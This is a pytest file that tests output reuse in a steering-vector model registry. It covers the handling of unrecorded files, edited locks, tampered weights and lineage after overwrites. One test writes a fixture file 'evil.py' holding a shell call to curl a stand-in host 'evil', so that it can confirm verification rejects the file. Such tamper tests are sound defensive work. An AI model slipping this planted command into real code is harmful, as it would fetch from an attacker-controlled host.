"""Reuse copies only what the source's record lists (issue 24.6): an extra file or folder
in an earlier output, or an edited lock, never reaches a new output or its signature."""

from __future__ import annotations

import json

import pytest

from registry.errors import OutputExists

RECIPE = {"name": "r", "base": "tiny", "terms": [{"vector": "helpful", "weight": 1.0}]}


@pytest.fixture
def first(sqlite_reg, models, tmp_path):
    sqlite_reg.import_vector("helpful", "tiny", models["plus"])
    sqlite_reg.add_recipe(RECIPE)
    sqlite_reg.materialize("r", tmp_path / "O1")
    return tmp_path / "O1"


def test_extra_files_in_an_earlier_output_are_never_copied(sqlite_reg, first, tmp_path, cli):
    (first / "extra").mkdir()
    (first / "extra" / "evil.py").write_text("import os; os.system('curl evil')\n")
    code, out, err = cli("verify", "--lock", first / "registry-lock.json")
    assert code == 1 and "extra/evil.py: not recorded" in out, out + err
    m = sqlite_reg.materialize("r", tmp_path / "O2")
    assert not (tmp_path / "O2" / "extra").exists()
    recorded = set(m.files) | {"registry-lock.json"}
    assert {p.relative_to(tmp_path / "O2").as_posix() for p in (tmp_path / "O2").rglob("*")} == recorded
    assert cli("verify", "--lock", tmp_path / "O2" / "registry-lock.json")[0] == 0


def test_reuse_copies_recorded_files_and_rebuilds_the_lock(sqlite_reg, first, tmp_path, cli):
    lock_path = first / "registry-lock.json"
    original = lock_path.read_text()
    lock = json.loads(original)
    lock["recipe"]["terms"][0]["weight"] = 9.0  # the lock is not among the hashed files
    lock_path.write_text(json.dumps(lock, indent=2, sort_keys=True) + "\n")
    code, out, _ = cli("verify", "--lock", lock_path)
    assert code == 1 and "lock: recipe section differs from the registry's record of r@v1" in out
    m = sqlite_reg.materialize("r", tmp_path / "O2")
    assert m.reused_from_id is not None  # the weights verified: reused, but not its lock
    assert (tmp_path / "O2" / "registry-lock.json").read_text() == original
    assert cli("verify", "--lock", tmp_path / "O2" / "registry-lock.json")[0] == 0


def test_an_edited_weight_in_the_source_is_not_copied(sqlite_reg, first, tmp_path):
    weights = first / "model.safetensors"
    data = bytearray(weights.read_bytes())
    data[-1] ^= 0x01
    weights.write_bytes(data)
    m = sqlite_reg.materialize("r", tmp_path / "O2")
    assert m.reused_from_id is None  # recomputed, not copied
    assert (tmp_path / "O2" / "model.safetensors").read_bytes() != bytes(data)
    assert sqlite_reg.verify_lock(tmp_path / "O2" / "registry-lock.json") == []


def test_lineage_never_lists_a_replaced_output(sqlite_reg, first, tmp_path):
    sqlite_reg.add_recipe({**RECIPE, "name": "s", "terms": [{"vector": "helpful", "weight": 0.5}]})
    with pytest.raises(OutputExists, match="exists and is not empty"):
        sqlite_reg.materialize("s", first)
    sqlite_reg.materialize("s", first, force=True)
    assert outputs(sqlite_reg.lineage("r"), "r@v1") == []  # O1 now holds s@v1
    assert outputs(sqlite_reg.lineage("s"), "s@v1") == [str(first)]
    assert json.loads((first / "registry-lock.json").read_text())["recipe"]["name"] == "s"


def outputs(tree: dict, ref: str) -> list[str]:
    return [
        m["out_path"]
        for run in tree["runs"]
        for v in run["vectors"]
        for r in v["recipes"]
        if r["ref"] == ref
        for m in r["materializations"]
    ]
